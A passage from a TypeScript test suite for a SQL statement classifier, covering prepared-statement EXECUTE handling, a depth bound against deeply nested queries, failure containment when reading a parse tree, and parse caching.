    assert.equal(classifier.classify('DEALLOCATE ALL').statements[0]?.deallocates, '*');
  });

  // Fails if EXECUTE of a statement that itself runs one by name were judged by what that name held when
  // it was prepared: the server looks it up only when it runs, so the judged statement could be another.
  it('does not follow a prepared statement that itself runs one by name', () => {
    const [inner] = classifier.classify('EXECUTE q').statements;
    const p = executeOf(inner?.statement as SqlStatement, { kind: 'SelectStmt', tables: [] }, 'q');
    assert.equal(p.problem, undefined);
    const [ctas] = classifier.classify('CREATE TABLE t AS EXECUTE q').statements;
    for (const prepared of [p, ctas?.statement as SqlStatement]) {
      const [exec] = classifier.classify('EXECUTE p').statements;
      assert.match(
        executeOf(exec?.statement as SqlStatement, prepared, 'p').problem ?? '',
        /"p" itself runs a prepared statement by name/,
      );
    }
  });
});

// Deep nesting once crashed the whole sidecar (RangeError: the tree walks recurse). Without the
// depth bound in sql-classifier.ts (deeperThan … MAX_TREE_DEPTH) these throw instead of denying.
describe('deep nesting', () => {
  const FORMS: ((x: string) => string)[] = [
    (x) => `(SELECT ${x})`,
    (x) => `(${x} || 'a')`,
    (x) => `abs(${x})`,
    (x) => `ARRAY[${x}]`,
    (x) => `CASE WHEN ${x} IS NULL THEN 1 END`,
    (x) => `-(${x})`,
    (x) => `(${x})::int`,
    (x) => `NOT (${x})`,
    (x) => `(SELECT 1 FROM t WHERE a IN (${x}))`,
  ];
  const nest = (forms: readonly number[]) =>
    `SELECT ${forms.reduce((x, f) => (FORMS[f] as (x: string) => string)(x), '1')}`;
  /**
   * Calls `fn` under `frames` frames already on the stack, as a caller would (2500 of these are
   * about a fifth of Node's default stack, far more than the sidecar's own frames when it
   * classifies; at the bound the walk itself needs about half, its code not yet optimised).
   */
  const under = <T>(frames: number, fn: () => T): T => (frames === 0 ? fn() : under(frames - 1, fn));

  it('never throws, whatever the nesting: reads it, or denies it with the reason', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 3000 }),
        fc.array(fc.nat(FORMS.length - 1), { minLength: 1, maxLength: FORMS.length }),
        (depth, cycle) => {
          const forms = Array.from({ length: depth }, (_, i) => cycle[i % cycle.length] as number);
          const [s, ...rest] = classifier.classify(nest(forms)).statements;
          assert.equal(rest.length, 0);
          assert.ok(s);
          if (s.statement.problem !== undefined)
            assert.match(s.statement.problem, /nests more than 1000 levels|parser refused it/);
        },
      ),
      { numRuns: 15 },
    );
  });

  it('denies the review’s 300 nested subqueries with a clear message, and reads 140', () => {
    const sub = (n: number) => `SELECT ${'(SELECT '.repeat(n)}1${')'.repeat(n)}`;
    const [deep] = classifier.classify(sub(300)).statements;
    assert.match(deep?.statement.problem ?? '', /nests more than 1000 levels deep/);
    const [fine] = classifier.classify(sub(140)).statements;
    assert.equal(fine?.statement.problem, undefined);
    assert.deepEqual(fine?.statement.kinds, ['select']);
  });

  it('reads a tree just inside the bound with a fifth of the stack already used', async () => {
    const parser = await loadSqlParser();
    const fresh = new SqlClassifier(parser, 4);
    for (const f of [0, 1, 4]) {
      // The deepest nesting of this form inside the bound (found on the tree alone: reading is slow)…
      let lo = 1;
      let hi = 1000;
      while (lo < hi) {
        const mid = Math.ceil((lo + hi) / 2);
        const tree = parser.parseSync(nest(Array(mid).fill(f))).stmts?.[0]?.stmt;
        if (deeperThan(tree, MAX_TREE_DEPTH)) hi = mid - 1;
        else lo = mid;
      }
      // … read from deep inside a caller.
      const s = under(2500, () => fresh.classify(nest(Array(lo).fill(f))).statements[0]);
      assert.equal(s?.statement.problem, undefined, `form ${f} at ${lo}`);
      assert.ok(s?.statement.kinds?.includes('select'));
    }
  });

  it('a failure while reading a statement denies it, and never escapes', async () => {
    const parser = await loadSqlParser();
    // A tree whose reading throws: what a bug in the walk, or an unforeseen tree, would do.
    const booby = { SelectStmt: {} };
    Object.defineProperty(booby.SelectStmt, 'targetList', {
      enumerable: true,
      get() {
        throw new RangeError('Maximum call stack size exceeded');
      },
    });
    const broken = new SqlClassifier(
      { ...parser, parseSync: () => ({ stmts: [{ stmt: booby }] }) } as typeof parser,
      4,
    );
    const [s] = broken.classify('SELECT 1').statements;
    assert.match(s?.statement.problem ?? '', /reading it failed \(RangeError\)/);
  });
});

describe('the parse cache', () => {
  it('answers a repeated text from the cache', () => {
    const before = { ...classifier.stats };
    const text = `SELECT ${Math.random()}`;
    const first = classifier.classify(text);
    assert.equal(classifier.classify(text), first);
    assert.equal(classifier.stats.misses, before.misses + 1);
    assert.equal(classifier.stats.hits, before.hits + 1);
  });
});
